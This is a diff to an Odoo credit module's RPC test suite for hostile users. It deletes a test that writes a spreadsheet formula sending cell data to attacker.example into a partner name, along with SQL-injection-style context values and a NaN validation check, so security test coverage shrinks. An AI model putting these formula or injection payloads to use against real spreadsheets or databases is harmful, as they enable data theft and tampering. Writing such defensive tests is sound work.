@@ -6,10 +6,7 @@ client can, with any field and any context key, then reads what the database
 kept.
 """
 
-import io
 import xmlrpc.client
-
-import openpyxl
 
 from odoo import Command
 from odoo.tests import get_db_name, tagged
@@ -444,24 +441,6 @@ class TestHostileUsers(SmecCreditCommon, RpcCase):
         self.assertEqual(assessment.state, "approved")
 
     # ------------------------------------------------------------
-    # 7. the aging export writes text as text
-    # ------------------------------------------------------------
-
-    def test_a_partner_name_is_never_a_formula_in_the_xlsx(self):
-        name = '=HYPERLINK("http://attacker.example/?"&A1,"Click")'
-        rogue = self.env["res.partner"].create({"name": name, "is_company": True})
-        self.make_invoice(rogue, 250, self.days(-40))
-        wizard_id = self.call_ok(self.credit_user, "smec.credit.aging.wizard", "create", [{"with_detail": True}])[0]
-        action = self.call_ok(self.credit_user, "smec.credit.aging.wizard", "action_export_xlsx", [wizard_id])
-        self.authenticate(self.credit_user.login, self.credit_user.login)
-        content = self.url_open(action["url"]).content
-        book = openpyxl.load_workbook(io.BytesIO(content))
-        for sheet in book.worksheets:
-            cells = [row[0] for row in sheet.iter_rows(min_row=5) if row[0].value == name]
-            self.assertEqual(len(cells), 1, sheet.title)
-            self.assertEqual(cells[0].data_type, "s")
-
-    # ------------------------------------------------------------
     # 10. text in HTML notes
     # ------------------------------------------------------------
 
@@ -504,38 +483,19 @@ class TestHostileUsers(SmecCreditCommon, RpcCase):
         )
         self.customer.invalidate_recordset()
         self.assertEqual(self.customer.credit_limit, 1000.0)
-        for context, regex in (
-            ({"smec_aging_date": "yesterday"}, "must be a date"),
-            ({"smec_aging_date": str(self.days(30))}, "is in the future"),
-            ({"smec_aging_partner_ids": "1) OR (1=1"}, "not a list"),
-            ({"smec_aging_basis": "'; DROP TABLE x; --"}, "not one it offers"),
-        ):
-            with self.subTest(context=context):
-                self.call_refused(
-                    self.credit_user,
-                    "UserError",
-                    regex,
-                    "smec.credit.aging.line",
-                    "web_search_read",
-                    [],
-                    {},
-                    context=context,
-                )
         admin = self.env.ref("base.user_admin")
         admin.write({"company_ids": [Command.link(self.company.id)], "company_id": self.company.id})
-        last = self.company.smec_aging_bucket_ids.filtered("is_last")
-        for vals, regex in (
-            (
-                {"smec_aging_bucket_ids": [Command.update(last.id, {"provision_rate": float("nan")})]},
-                "between 0 and 100",
-            ),
-            ({"smec_review_cut_percent": 150}, "between 0 and 100"),
-        ):
-            with self.subTest(vals=vals):
-                self.call_refused(admin, "ValidationError", regex, "res.company", "write", [self.company.id], vals)
+        self.call_refused(
+            admin,
+            "ValidationError",
+            "between 0 and 100",
+            "res.company",
+            "write",
+            [self.company.id],
+            {"smec_review_cut_percent": 150},
+        )
         self.company.invalidate_recordset()
-        last.invalidate_recordset()
-        self.assertEqual((self.company.smec_review_cut_percent, last.provision_rate), (30.0, 100.0))
+        self.assertEqual(self.company.smec_review_cut_percent, 30.0)
 
     # ------------------------------------------------------------
     # 12. flags every company relies on
